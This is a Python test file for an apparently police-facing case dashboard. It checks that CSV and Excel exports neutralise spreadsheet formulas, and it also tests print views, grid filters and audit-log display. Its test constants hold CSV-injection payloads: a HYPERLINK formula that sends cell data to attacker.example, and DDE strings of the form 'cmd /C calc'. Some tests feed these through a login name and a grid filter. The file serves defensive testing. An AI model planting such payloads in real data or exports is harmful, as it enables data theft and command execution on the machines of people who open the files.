"""Exports cannot carry spreadsheet formulas: hostile values from an extract (loaded with the real
loader) and from the audit log come out of the real CSV and Excel writers neutralised, and
numbers stay numbers."""

from __future__ import annotations

import base64
import csv
import io
import re
import subprocess
import sys
from datetime import date

import openpyxl
import pandas as pd
import pytest
from conftest import call, use_warehouse

from dashboard import pack
from dashboard.scope import Scope
from etl.spreadsheet import neutralise, safe_frame, xlsx_bytes

HOSTILE_TEAM = '=HYPERLINK("http://attacker.example/?x="&A1,"team")'
HOSTILE_OFFICER = "+cmd|' /C calc'!A0"
HOSTILE_ID = "@SUM(1+1)*cmd|' /C calc'!A0"
FORCE = Scope("tester", "force", ("West", "East", "South"))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_text_cell_starting_like_a_formula_gets_a_quote(start):
    assert neutralise(f"{start}1+1") == f"'{start}1+1"


def test_harmless_text_numbers_and_empties_are_left_alone():
    assert neutralise("West CP 1") == "West CP 1"
    assert neutralise("a=b") == "a=b"
    assert neutralise(-5) == -5 and neutralise(2.5) == 2.5 and neutralise(None) is None
    df = safe_frame(pd.DataFrame({"n": [-1, 2], "t": ["-1", "x"], "=h": ["a", None]}))
    assert df["n"].tolist() == [-1, 2] and df["t"].tolist() == ["'-1", "x"]
    assert list(df.columns) == ["n", "t", "'=h"] and pd.isna(df["'=h"].tolist()[1])


def test_an_excel_text_cell_is_never_a_formula():
    book = openpyxl.load_workbook(
        io.BytesIO(xlsx_bytes({"S": pd.DataFrame({"t": ["=1+1", "ok"], "n": [-3, 4]})}))
    )
    sheet = book["S"]
    assert (sheet["A2"].value, sheet["A2"].data_type) == ("'=1+1", "s")
    assert (sheet["B2"].value, sheet["B2"].data_type) == (-3, "n")


def test_a_control_character_cannot_hide_a_formula_from_the_workbook_guard():
    """An adversarial pass (session 17): the quote was added before Excel's illegal characters
    were dropped, so "\x01=HYPERLINK(...)" was written as "=HYPERLINK(...)"."""
    hidden = ['\x01=HYPERLINK("http://x.example")', "\x00\x1f+1", "\x07@SUM(A1)"]
    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes({"S": pd.DataFrame({"t": hidden})})))
    values = [c.value for c in book["S"]["A"]][1:]
    assert values == ['\'=HYPERLINK("http://x.example")', "'+1", "'@SUM(A1)"]


def test_control_characters_and_huge_text_do_not_break_a_workbook():
    huge = "=" + "x" * 40_000
    book = openpyxl.load_workbook(
        io.BytesIO(xlsx_bytes({"S": pd.DataFrame({"t": ["a\x07b\x00c", huge, "line\nbreak"]})}))
    )
    values = [c.value for c in book["S"]["A"]]
    assert values[1:2] == ["abc"] and values[3] == "line\nbreak"
    assert values[2].startswith("'=xxx") and len(values[2]) == 32_767 and "[cut:" in values[2]


def _hostile_extract(load_rows):
    return load_rows(
        investigations=[
            {"investigation_id": "W-1", "opened_at": "2018-05-01 09:00", "team": HOSTILE_TEAM,
             "team_type": "child_protection", "officer_id": HOSTILE_OFFICER},
            {"investigation_id": HOSTILE_ID, "opened_at": "2018-05-02 09:00",
             "team": "-West CP", "team_type": "not a team type", "officer_id": "DC1"},
        ],
        supervision=[
            {"review_id": "R-1", "investigation_id": "W-1", "reviewed_at": "2018-05-10 10:00",
             "reviewer_id": "@DS1", "note": "=1+1"},
        ],
    )  # fmt: skip


def _download(dash_app, client, panel: str, page: str, fmt: str, grid_filters=None) -> bytes:
    return _download_named(dash_app, client, panel, page, fmt, grid_filters)[0]


def _download_named(
    dash_app, client, panel: str, page: str, fmt: str, grid_filters=None, filters=None
) -> tuple[bytes, str]:
    key = next(k for k in dash_app.callback_map if k.startswith(f"{panel}-download"))
    status, body = call(
        dash_app,
        client,
        key,
        {
            f"{panel}-export-{fmt}.n_clicks": 1,
            f"{page}-filters.data": filters or {},
            f"{panel}-grid.filterModel": grid_filters or {},
            f"{panel}-grid.columnState": [],
        },
        changed=f"{panel}-export-{fmt}.n_clicks",
    )
    assert status == 200, body
    sent = body["response"][f"{panel}-download"]["data"]
    return base64.b64decode(sent["content"]), sent["filename"]


def _csv_cells(raw: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))


def _xlsx_cells(raw: bytes, sheet: str = "Data"):
    book = openpyxl.load_workbook(io.BytesIO(raw))
    return [c for row in book[sheet].iter_rows() for c in row if c.value is not None]


def _assert_no_formula(cells) -> None:
    for c in cells:
        assert c.data_type != "f", (c.coordinate, c.value)
        if isinstance(c.value, str):
            assert not c.value.startswith(("=", "+", "-", "@", "\t", "\r")), c.value


def test_hostile_team_and_officer_ids_are_neutralised_in_grid_exports(
    dash_app, client_for, load_rows, db, monkeypatch
):
    _hostile_extract(load_rows)
    use_warehouse(monkeypatch, db)
    client = client_for("force")
    text = _download(dash_app, client, "child-list", "child", "csv")
    cells = [c for row in _csv_cells(text) for c in row]
    assert "'" + HOSTILE_TEAM in cells and "'" + HOSTILE_OFFICER in cells
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]

    book = _download(dash_app, client, "child-list", "child", "xlsx")
    cells = _xlsx_cells(book)
    _assert_no_formula(cells)
    values = [c.value for c in cells]
    assert "'" + HOSTILE_TEAM in values and "'" + HOSTILE_OFFICER in values
    days = [c for c in cells if c.column == 2 and c.row > 1]  # "Days open" stays a number
    assert days and all(c.data_type == "n" for c in days)

    q = _download(dash_app, client, "data-quarantine-rows", "data", "xlsx")
    cells = _xlsx_cells(q)
    _assert_no_formula(cells)
    assert "'" + HOSTILE_ID in [c.value for c in cells]
    q_csv = [c for row in _csv_cells(_download(dash_app, client, "data-quarantine-rows", "data",
                                                "csv")) for c in row]  # fmt: skip
    assert "'" + HOSTILE_ID in q_csv


def test_a_hostile_team_is_neutralised_in_the_pack_workbook(load_rows, db, monkeypatch):
    _hostile_extract(load_rows)
    use_warehouse(monkeypatch, db)
    raw = pack.to_excel(pack.build(FORCE, date(2018, 5, 1), None))
    book = openpyxl.load_workbook(io.BytesIO(raw))
    by_team = [c for row in book["By team"].iter_rows() for c in row if c.value is not None]
    assert "'" + HOSTILE_TEAM in [c.value for c in by_team]
    for name in book.sheetnames:
        _assert_no_formula([c for row in book[name].iter_rows() for c in row if c.value])


def test_a_hostile_sign_in_name_is_neutralised_in_the_audit_export(dash_app, client_for):
    hostile = '=HYPERLINK("http://attacker.example/","audit")'
    stranger = dash_app.server.test_client()
    page = stranger.get("/login").get_data(as_text=True)
    import re

    csrf = re.search(r'name="csrf" value="([^"]*)"', page).group(1)
    stranger.post("/login", data={"username": hostile, "password": "x", "csrf": csrf, "next": "/"})
    admin = client_for("admin")
    cells = [c for row in _csv_cells(_download(dash_app, admin, "audit-log", "audit", "csv"))
             for c in row]  # fmt: skip
    assert "'" + hostile in cells
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    xl = _xlsx_cells(_download(dash_app, admin, "audit-log", "audit", "xlsx"))
    _assert_no_formula(xl)
    assert "'" + hostile in [c.value for c in xl]


def test_the_command_line_csv_outputs_are_neutralised(load_rows, db):
    _hostile_extract(load_rows)
    for command in (["flags", "--as-of", "2018-06-30"], ["rejects"]):
        got = subprocess.run(
            [sys.executable, "-m", "etl", *command, "--db", str(db), "--format", "csv"],
            capture_output=True, text=True, timeout=120,
        )  # fmt: skip
        assert got.returncode == 0, got.stderr
        cells = [c for row in csv.reader(io.StringIO(got.stdout)) for c in row]
        assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))], command
        wanted = "'" + (HOSTILE_TEAM if command[0] == "flags" else HOSTILE_ID)
        assert wanted in cells, command


def test_a_hostile_grid_filter_reaches_neither_the_csv_nor_the_file_name(dash_app, client_for):
    hostile = {"team": {"filterType": "text", "type": "contains",
                        "filter": 'x,=HYPERLINK("http://attacker.example/"),"\n=1+1'}}  # fmt: skip
    raw, name = _download_named(dash_app, client_for("force"), "child-list", "child", "csv",
                                hostile)  # fmt: skip
    assert "HYPERLINK" not in raw.decode("utf-8-sig")
    assert re.fullmatch(r"[a-z0-9-]+\.csv", name), name
    book = _download(dash_app, client_for("force"), "child-list", "child", "xlsx", hostile)
    about = _xlsx_cells(book, "About")
    _assert_no_formula(about)
    assert any("HYPERLINK" in str(c.value) for c in about)  # said, as text


def test_a_grid_csv_is_plain_and_its_file_name_says_the_view(dash_app, client_for):
    """The header is line 1 (pandas and Excel read it as it is); the as-of day and the filters
    travel in the file name, the marking and filters in words in the workbook's About sheet."""
    filters = {"as_of": "2018-06-30", "area": "West"}
    raw, name = _download_named(dash_app, client_for("force"), "child-list", "child", "csv",
                                filters=filters)  # fmt: skip
    assert name == "official-sensitive-child-related-cases-as-of-2018-06-30-west.csv", name
    frame = pd.read_csv(io.BytesIO(raw))
    assert list(frame.columns)[:3] == ["Case", "Days open", "Area"]
    assert len(frame) > 0 and set(frame["Area"]) == {"West"}
    assert frame["Days open"].dtype.kind == "i"
    assert all(re.fullmatch(r"\d\d/\d\d/\d{4}", d) for d in frame["Opened"])

    grid_filter = {"days": {"filterType": "number", "type": "greaterThanOrEqual", "filter": 20}}
    book_raw, name = _download_named(dash_app, client_for("force"), "child-list", "child", "xlsx",
                                     grid_filter, filters)  # fmt: skip
    stem = "official-sensitive-child-related-cases-as-of-2018-06-30-west"
    assert name == f"{stem}-grid-filtered.xlsx", name
    book = openpyxl.load_workbook(io.BytesIO(book_raw))
    assert book.sheetnames == ["Data", "About"]
    data_sheet = book["Data"]
    assert data_sheet.freeze_panes == "A2"
    headers = [c.value for c in data_sheet[1]]
    opened = [r[headers.index("Opened")] for r in data_sheet.iter_rows(min_row=2)]
    assert opened and all(c.is_date and c.number_format == "DD/MM/YYYY" for c in opened)
    days = [r[headers.index("Days open")].value for r in data_sheet.iter_rows(min_row=2)]
    assert days and min(days) >= 20
    about = [c.value for c in _xlsx_cells(book_raw, "About")]
    assert about[0] == "OFFICIAL-SENSITIVE"
    assert "Filters: West" in about and "Grid filters: Days open >= 20" in about
    assert f"Rows: {len(days)}" in about


def test_the_print_view_holds_every_filtered_row_and_is_marked(dash_app, client_for):
    """/print/<panel>: every row the filters give, in the user's scope only, the filters and
    day written out, page furniture for A4 landscape, and the print in the access log."""
    from dashboard.access import auth
    from dashboard.printview import link

    west = client_for("west")
    url = link("today-actions", {"as_of": "2018-06-30"}, None, None)
    got = west.get(url)
    assert got.status_code == 200
    text = got.get_data(as_text=True)
    for case in ("W-OVERDUE", "W-NEW", "W-DUE", "W-RESP"):
        assert case in text
    assert "E-OVERDUE" not in text and "S-" not in text.split("<tbody>")[1]
    assert "OFFICIAL-SENSITIVE" in text and "size: A4 landscape" in text
    assert 'counter(page) " of " counter(pages)' in text
    assert "As of: 30/06/2018" in text and "Rows: 4" in text
    # An area outside the user's scope asked for: nothing, and said so.
    east = west.get(link("today-actions", {"as_of": "2018-06-30", "area": "East"}, None, None))
    assert "Rows: 0" in east.get_data(as_text=True) and "E-OVERDUE" not in east.get_data(
        as_text=True
    )
    # Grid filters narrow the print exactly as they narrow the grid.
    days = {"days": {"filterType": "number", "type": "greaterThan", "filter": 30}}
    narrowed = west.get(link("today-actions", {"as_of": "2018-06-30"}, days, None))
    assert "Rows: 1" in narrowed.get_data(as_text=True)
    assert "Grid filters: Days &gt; 30" in narrowed.get_data(as_text=True)
    log = auth().audit.read()
    prints = log[(log["event"] == "print") & (log["username"] == "west")]
    assert len(prints) == 3
    assert west.get("/print/no-such-panel").status_code == 404
    assert west.get("/print/today-actions?filters=%7Bbad").status_code == 400


def test_a_date_filter_compares_days_and_reads_in_words():
    from dashboard.grid import Column, apply_model, describe_grid_filters

    df = pd.DataFrame({"at": pd.to_datetime(["2018-05-31 23:59", "2018-06-01 00:00",
                                             "2018-06-30 23:00", "2018-07-01 00:01"])})  # fmt: skip
    columns = [Column("at", "When", kind="datetime")]
    june = {"at": {"filterType": "date", "type": "inRange", "dateFrom": "2018-06-01 00:00:00",
                   "dateTo": "2018-06-30 00:00:00"}}  # fmt: skip
    kept = apply_model(df, columns, june)
    assert list(kept["at"].dt.day) == [1, 30]
    assert describe_grid_filters(june, columns) == "When between 2018-06-01 and 2018-06-30"


def test_the_audit_log_reads_in_local_time_and_words(dash_app, client_for):
    from dashboard.access import auth
    from dashboard.panels import Context, discover
    from dashboard.scope import Filters, Scope

    client_for("west").get("/_dash-layout")
    auth().audit.record("west", "export", page="today", detail={"format": "csv", "rows": 4})
    admin = Scope("admin", "admin", ("West", "East", "South"))
    rows = discover()["audit-log"].table.rows(Context(admin, Filters(), None))
    newest = rows.iloc[0]
    assert newest["detail"] == "format: csv; rows: 4"
    stored = pd.Timestamp(auth().audit.read(limit=1).iloc[0]["at"])
    assert newest["at"] == stored.tz_convert("Europe/London").tz_localize(None)
    assert len(rows) == len(auth().audit.read(limit=None))  # every entry, no cap


def test_a_grid_block_shows_codes_in_words_and_filters_and_sorts_on_the_words():
    """Codes are put in words on the block sent, or over the whole table where the grid
    filters or sorts on them (so "CSE" sorts before "Child protection", as the grid shows them,
    not after it, as their codes would)."""
    from dashboard import words
    from dashboard.grid import Column, rows_response

    codes = ["response", "child_protection", "cse", "response"]
    df = pd.DataFrame({"id": ["A", "B", "C", "D"], "team_type": codes})
    columns = [Column("id", "Id"), Column("team_type", "Team type", words=words.team_type_words)]
    plain = rows_response(df, columns, {"startRow": 1, "endRow": 3})
    assert [r["team_type"] for r in plain["rowData"]] == ["Child protection", "CSE"]
    by_words = rows_response(df, columns, {"sortModel": [{"colId": "team_type", "sort": "asc"}]})
    assert [r["id"] for r in by_words["rowData"]] == ["C", "B", "A", "D"]
    assert by_words["rowData"][0]["team_type"] == "CSE"
    chosen = {"team_type": {"filterType": "text", "type": "equals", "filter": "Response"}}
    kept = rows_response(df, columns, {"filterModel": chosen})
    assert ([r["id"] for r in kept["rowData"]], kept["rowCount"]) == (["A", "D"], 2)
    assert df["team_type"].tolist()[0] == "response"  # the cached table is left as it was


def test_a_grid_block_sends_plain_values_and_null_for_every_kind_of_missing():
    """What the browser receives (grid.for_browser): UK dates from timestamps, dates and text,
    "" where a date is missing or unreadable; links escaped, none to a missing id; numbers as
    plain numbers; None, NaN, NaT and pd.NA all null; a column the frame lacks is ""."""
    import json

    import numpy as np

    from dashboard.grid import Column, for_browser

    df = pd.DataFrame(
        {
            "id": ["A1", None, "x]y"],
            "on": [pd.Timestamp("2018-06-30 23:10"), None, "2018-07-01"],
            "at": [pd.Timestamp("2018-06-30 23:10"), pd.NaT, "not a time"],
            "days": pd.array([3, None, 0], dtype="Int64"),
            "share": [0.5, np.nan, 1.0],
            "n": np.array([1, 2, 3], dtype=np.int64),
            "words": ["a", pd.NA, None],
        }
    )
    columns = [
        Column("id", "Case", link="/case/"), Column("on", "On", kind="date"),
        Column("at", "At", kind="datetime"), Column("days", "Days", kind="number"),
        Column("share", "Share", kind="number"), Column("n", "N", kind="number"),
        Column("words", "Words"), Column("absent", "Not in the frame"),
    ]  # fmt: skip
    rows = for_browser(df, columns, "as_of=2018-06-30")
    assert rows == [
        {"id": "[A1](/case/A1?as_of=2018-06-30)", "on": "30/06/2018", "at": "30/06/2018 23:10",
         "days": 3, "share": 0.5, "n": 1, "words": "a", "absent": ""},
        {"id": None, "on": "", "at": "", "days": None, "share": None,
         "n": 2, "words": None, "absent": ""},
        {"id": "[x\\]y](/case/x%5Dy?as_of=2018-06-30)", "on": "01/07/2018", "at": "",
         "days": 0, "share": 1.0, "n": 3, "words": None, "absent": ""},
    ]  # fmt: skip
    assert all(type(r["n"]) is int for r in rows)  # not numpy's: the JSON encoder's own types
    json.dumps(rows, allow_nan=False)  # no NaN reaches the browser
